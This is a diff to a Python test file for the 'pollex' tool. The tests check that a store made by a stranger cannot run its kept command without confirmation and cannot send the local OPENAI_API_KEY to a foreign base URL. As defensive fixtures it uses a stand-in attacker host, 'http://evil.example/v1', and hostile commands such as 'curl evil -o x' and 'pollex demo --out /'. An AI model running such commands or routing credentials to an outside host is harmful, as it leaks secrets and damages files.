@@ -1,6 +1,8 @@
 """Stores that a stranger made: opening one runs nothing, and what no run wrote is one error in words."""
 
 import asyncio
+import html
+import re
 import shutil
 import sqlite3
 from collections.abc import Iterator
@@ -20,6 +22,7 @@ from pollex.graphs.run import GRAPHS, carry_out, graph_of, state_now, states_of
 from pollex.store.resume import runs
 from pollex.store.spans import Tracer
 from pollex.store.store import Store
+from pollex.web.kept_commands import go_on, kept_command
 
 
 @dataclass(frozen=True)
@@ -54,7 +57,11 @@ async def pages_of(folder: Path, run: str) -> dict[str, str]:
     with Store.open(folder) as store:
         async with client_of(made_app(store)) as client:
             found = {page: await client.get(page.format(run=run)) for page in PAGES}
-            edited = await client.post(f"/api/runs/{run}/pool", json={"text-1": "A text.", "polarity-1": "sat"})
+            pool = {"text-1": "A text.", "polarity-1": "sat"}
+            asked = await client.post(f"/api/runs/{run}/pool", json=pool)
+            assert asked.status_code == 409, "nobody has said yes to the command that the store keeps"
+            (yes,) = re.findall(r"confirmed=([0-9a-f]{16})", asked.text)
+            edited = await client.post(f"/api/runs/{run}/pool", json=pool | {"confirmed": yes})
     answers = {page: f"{answer.status_code} {answer.text}" for page, answer in found.items()}
     return answers | {"the pool": f"{edited.status_code} {edited.text}"}
 
@@ -82,7 +89,7 @@ def test_a_state_that_no_run_could_have_written_is_refused_in_the_terminal_and_i
     assert is_refused(pollex("trace", waiting.run, "--state", "deduplicate", "--store", store))
     answers = asyncio.run(pages_of(store, waiting.run))
     assert answers[PAGES[0]].startswith("200")
-    assert "the store is damaged (a state of a run can" in answers[PAGES[0]]
+    assert "a state of a run can't be read" in html.unescape(answers[PAGES[0]])
     assert "the store is damaged" in answers[PAGES[1]]
     assert "the store is damaged" in answers["the pool"]
     assert not {name: said for name, said in answers.items() if said.startswith("500")}
@@ -180,3 +187,68 @@ def test_a_folder_with_other_things_in_it_stays_everybodys(tmp_path: Path) -> No
     with Store.open(folder) as store:
         assert (store.folder / "runs").stat().st_mode & 0o777 == 0o700
     assert [path.stat().st_mode & 0o777 for path in (folder, file, folder / "store.sqlite")] == [0o755, 0o644, 0o600]
+
+
+def changed_command(store: Path, command: str) -> None:
+    """Change the command that a store keeps."""
+    with closing(sqlite3.connect(store / "store.sqlite")) as database:
+        database.execute("UPDATE runs SET arguments = json_set(arguments, '$.command', ?)", (command,))
+        database.commit()
+
+
+EVIL = "http://evil.example/v1"
+
+
+@pytest.mark.parametrize(
+    ("command", "owners", "told", "key"),
+    [
+        (
+            f"pollex learn other.jsonl --model m --base-url {EVIL} --review pool",
+            "",
+            "without this server's key",
+            "",
+        ),
+        (
+            f"pollex learn other.jsonl --model m --base-url={EVIL}",
+            "http://mine/v1",
+            "without this server's key",
+            "",
+        ),
+        (f"pollex learn other.jsonl --model m --base-url {EVIL}", EVIL, f"asks m at {EVIL}.", "mine"),
+        ("pollex learn other.jsonl --model m", EVIL, "asks m where this server's settings say", "mine"),
+        ("pollex learn other.jsonl", "", "It asks no model.", "mine"),
+    ],
+)
+async def test_what_a_kept_command_would_read_and_ask_is_shown_and_the_key_stays_here(
+    command: str, owners: str, told: str, key: str, waiting: Waiting, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    store = waiting.copied(tmp_path)
+    changed_command(store, command)
+    monkeypatch.setenv("OPENAI_API_KEY", "mine")
+    monkeypatch.setenv("POLLEX_BASE_URL", owners)
+    with Store.open(store) as opened:
+        app = made_app(opened)
+        run = runs(opened)[0]
+        async with client_of(app) as client:
+            page = html.unescape((await client.get(f"/runs/{run.id}")).text)
+            refused = await client.post(f"/api/runs/{run.id}/pool", json={"text-1": "A.", "polarity-1": "sat"})
+        kept = kept_command(app.app.state.site, run)  # type: ignore[attr-defined]
+    assert told in page
+    assert "pollex learn other.jsonl" in page
+    assert (refused.status_code, "learn other.jsonl" in refused.text) == (409, True)
+    assert kept
+    assert ({"OPENAI_API_KEY": "mine"} | dict(kept.environment))["OPENAI_API_KEY"] == key
+
+
+@pytest.mark.parametrize("command", ["curl evil -o x", "pollex demo --out /", "pollex", "'", "pollex export r.json"])
+async def test_what_is_no_command_that_learns_is_never_started(command: str, waiting: Waiting, tmp_path: Path) -> None:
+    store = waiting.copied(tmp_path)
+    changed_command(store, command)
+    with Store.open(store) as opened:
+        app = made_app(opened)
+        run = runs(opened)[0]
+        async with client_of(app) as client:
+            page = await client.get(f"/runs/{run.id}")
+        assert page.status_code == 200
+        assert "curl" not in page.text.partition("What it was started with")[0]
+        assert go_on(app.app.state.site, run) is None  # type: ignore[attr-defined]
